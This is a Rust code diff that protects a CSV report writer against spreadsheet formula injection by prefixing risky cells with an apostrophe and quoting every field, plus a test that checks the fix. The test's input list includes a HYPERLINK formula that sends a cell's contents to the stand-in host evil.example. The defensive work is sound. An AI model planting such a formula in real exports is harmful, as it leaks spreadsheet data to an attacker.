@@ -14,11 +14,25 @@ fn types(counts: &[TypeCount]) -> String {
         .join("; ")
 }
 
+/// A cell as a spreadsheet must read it: text that begins with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return would be taken for a formula (reports can be forged, and an organisation,
+/// an MX host or a file name can be `=HYPERLINK(…)`), so it gets a leading `'`, as OWASP's
+/// CSV injection guidance says. Every cell is also quoted (see [`write`]).
+pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
+        _ => cell.into(),
+    }
+}
+
+/// Every field quoted, every cell safe for a spreadsheet.
 fn write(header: &[&str], rows: impl Iterator<Item = Vec<String>>) -> String {
-    let mut writer = csv::Writer::from_writer(Vec::new());
+    let mut writer = csv::WriterBuilder::new()
+        .quote_style(csv::QuoteStyle::Always)
+        .from_writer(Vec::new());
     let _ = writer.write_record(header);
     for row in rows {
-        let _ = writer.write_record(&row);
+        let _ = writer.write_record(row.iter().map(|cell| spreadsheet_safe(cell).into_owned()));
     }
     writer
         .into_inner()
@@ -199,6 +213,34 @@ mod tests {
             &["a", "b"],
             [vec!["x, y".to_string(), "say \"hi\"".to_string()]].into_iter(),
         );
-        assert_eq!(csv, "a,b\n\"x, y\",\"say \"\"hi\"\"\"\n");
+        assert_eq!(csv, "\"a\",\"b\"\n\"x, y\",\"say \"\"hi\"\"\"\n");
+    }
+
+    #[test]
+    fn no_cell_reads_as_a_formula() {
+        let hostile = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click me\").json",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+        ];
+        let csv = write(&["cell"], hostile.iter().map(|cell| vec![cell.to_string()]));
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        let cells: Vec<String> = reader
+            .records()
+            .map(|r| r.unwrap()[0].to_string())
+            .collect();
+        for (cell, given) in cells.iter().zip(hostile) {
+            assert_eq!(cell, &format!("'{given}"));
+        }
+        assert_eq!(cells.len(), hostile.len());
+        for line in csv.lines().skip(1).filter(|line| !line.is_empty()) {
+            assert!(line.starts_with("\"'") || line == "=1\"", "{line:?}");
+        }
+        assert_eq!(spreadsheet_safe("mx.example.com"), "mx.example.com");
+        assert_eq!(spreadsheet_safe("192.0.2.1"), "192.0.2.1");
+        assert_eq!(spreadsheet_safe(""), "");
     }
 }
